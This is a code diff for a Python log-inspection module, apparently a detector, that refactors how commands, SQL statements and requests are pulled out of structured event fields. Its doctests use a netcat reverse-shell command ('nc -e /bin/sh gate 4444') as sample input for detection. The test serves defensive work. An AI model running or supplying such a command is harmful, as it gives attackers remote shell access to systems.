@@ -131,7 +131,30 @@ def held_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
     >>> held_in([("body.cmdline", "nc -e /bin/sh gate 4444")]), held_in([("command", "start")])
     (None, None)
     """
-    return _held_in(islice(members, _MEMBERS_MAX))
+    found: Found = {}
+    sent: Dict[str, Any] = {}
+    for name, value in islice(members, _MEMBERS_MAX):
+        part = _part_of(name)
+        if part == _AUDITED:
+            return None
+        if part == _SENT:
+            sent[name.rpartition(".")[2]] = value
+        elif part and not (name in sent and sent[name] == value):  # else known without what it was sent in as well
+            found.setdefault(part, {}).setdefault(name, []).extend(map(str, value) if isinstance(value, (tuple, list)) else (str(value),))
+    if "people" in found:
+        found.pop("message", None)
+    statement = next(filter(is_statement, _values(found, "sql") + _values(found, "query")), "")
+    command = _command(found)
+    if command is None:
+        command = _typed_command(found)
+        if command is not None and statement:  # the words of a message may be a stranger's
+            return Held(command, statement=statement)
+    # What products number is no request; a page in it is of a console's.
+    request = _request(found) if command is None and "number" not in found and all(map(_OF_REQUESTS.search, _values(found, "act"))) else None
+    if command is None and request is None:
+        statement = statement or next(filter(None, map(statement_said, _values(found, "message")[:SAID_MAX])), "")
+        return Held(statement=statement) if statement else None
+    return Held(command, request, "firm" in found or _is_of_run(found))
 
 
 def packed_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
@@ -141,7 +164,7 @@ def packed_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
     >>> packed_in([("app", "jobs"), ("data", '{"cmd": "nc -e /bin/sh gate 4444"}')]).command.programs
     ('nc',)
     """
-    return next(filter(None, map(_held_in, islice(_packed(list(islice(members, _MEMBERS_MAX))), _PACKED_MAX))), None)
+    return next(filter(None, map(held_in, islice(_packed(list(islice(members, _MEMBERS_MAX))), _PACKED_MAX))), None)
 
 
 def _packed(members: List[Tuple[str, Any]]) -> Iterator[List[Tuple[str, Any]]]:
@@ -171,33 +194,6 @@ def _leaves(node: Any, path: str, depth: int) -> Iterator[Tuple[str, Any]]:
 #: What members are called that hold an object as text; no more of them are read, and no deeper.
 _PACKED = frozenset("message msg log event data record payload".split())
 _PACKED_MAX, _PACKED_DEPTH = 3, 6
-
-
-def _held_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
-    found: Found = {}
-    sent: Dict[str, Any] = {}
-    for name, value in members:
-        part = _part_of(name)
-        if part == _AUDITED:
-            return None
-        if part == _SENT:
-            sent[name.rpartition(".")[2]] = value
-        elif part and not (name in sent and sent[name] == value):  # else known without what it was sent in as well
-            found.setdefault(part, {}).setdefault(name, []).extend(map(str, value) if isinstance(value, (tuple, list)) else (str(value),))
-    if "people" in found:
-        found.pop("message", None)
-    statement = next(filter(is_statement, _values(found, "sql") + _values(found, "query")), "")
-    command = _command(found)
-    if command is None:
-        command = _typed_command(found)
-        if command is not None and statement:  # the words of a message may be a stranger's
-            return Held(command, statement=statement)
-    # What products number is no request; a page in it is of a console's.
-    request = _request(found) if command is None and "number" not in found and all(map(_OF_REQUESTS.search, _values(found, "act"))) else None
-    if command is None and request is None:
-        statement = statement or next(filter(None, map(statement_said, _values(found, "message")[:SAID_MAX])), "")
-        return Held(statement=statement) if statement else None
-    return Held(command, request, "firm" in found or _is_of_run(found))
 
 
 def is_told(name: str, held: Held) -> bool:
